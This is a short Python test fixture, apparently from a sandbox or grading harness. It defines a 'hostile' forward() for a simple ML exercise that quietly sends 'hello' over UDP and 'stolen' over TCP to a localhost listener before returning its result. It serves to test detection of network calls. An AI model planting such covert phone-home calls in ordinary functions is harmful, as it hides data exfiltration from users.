"""Hostile: forward() phones home over TCP (to a listener the test runs) and UDP."""
import json
import socket

from _correct import cost, gradient, gradient_descent, sgd


def forward(x, w):
    port = json.load(open("hostile.json"))["port"]
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        udp.sendto(b"hello", ("127.0.0.1", port))
    except OSError as exc:
        print("udp:", exc)
    socket.create_connection(("127.0.0.1", port), timeout=1).sendall(b"stolen")
    return x * w
